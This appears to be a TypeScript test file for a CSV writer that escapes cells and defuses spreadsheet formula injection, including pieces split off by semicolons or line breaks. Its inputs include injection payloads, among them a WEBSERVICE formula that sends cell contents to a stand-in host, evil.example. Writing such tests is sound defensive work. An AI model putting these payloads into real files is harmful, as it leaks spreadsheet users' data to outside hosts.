import { describe, expect, it } from "vitest";
import { csvCell, csvRow } from "./csv";

/** The cell's text as a spreadsheet reads it back (outer quotes gone, quotes undoubled). */
const unquoted = (cell: string) => cell.replace(/^"|"$/g, "").replaceAll('""', '"');

/**
 * The pieces a spreadsheet sees when it splits the cell's text on `separator`, as one that
 * ignores the quotes would (a semicolon locale opening a comma file, a line break in a cell).
 */
const pieces = (cell: string, separator: RegExp) =>
  unquoted(cell)
    .split(separator)
    .map((piece) => piece.replace(/^[ \u00A0\u3000]+/, ""));

describe("CSV cells", () => {
  it("quotes every text cell, doubling quotes; numbers and empty cells stay bare", () => {
    expect(csvCell("plain")).toBe('"plain"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("one\ntwo")).toBe('"one\ntwo"');
    expect(csvCell("one\r\ntwo")).toBe('"one\r\ntwo"');
    expect(csvCell(null)).toBe("");
    expect(csvCell(3)).toBe("3");
    expect(csvCell(-3)).toBe("-3");
  });

  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\tplain", " =1", "＝1+1"])(
    "defuses %j, which a spreadsheet would run as a formula",
    (text) => {
      expect(unquoted(csvCell(text))).toMatch(/^'/);
    },
  );

  it("defuses a formula that also needs quoting", () => {
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
  });

  // Issue 24, finding 4: a German or French spreadsheet program splits on ';'.
  it.each([
    'Hallo;=WEBSERVICE("https://evil.example/?"&A1)',
    "Hallo; =1+1",
    "Bonjour,+33 1 23",
    "a;b;@SUM(A1)",
    "x\t-2+3",
    'first line\n=HYPERLINK("https://evil.example")',
    "first line\r\n+cmd",
    "Hallo;＝1+1",
  ])("defuses every piece of %j that a separator or line break starts", (text) => {
    const cell = csvCell(text);
    expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
    for (const piece of pieces(cell, /[;,\t\r\n]/)) {
      expect(piece).not.toMatch(/^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
  });

  it("keeps ordinary text as typed", () => {
    expect(unquoted(csvCell("well-known, e-mail; 3-4 days"))).toBe("well-known, e-mail; 3-4 days");
    expect(unquoted(csvCell("Hallo;=1"))).toBe("Hallo;'=1");
  });

  it("ends a row with CRLF", () => {
    expect(csvRow(["a", "b,c", null, 2])).toBe('"a","b,c",,2\r\n');
  });
});
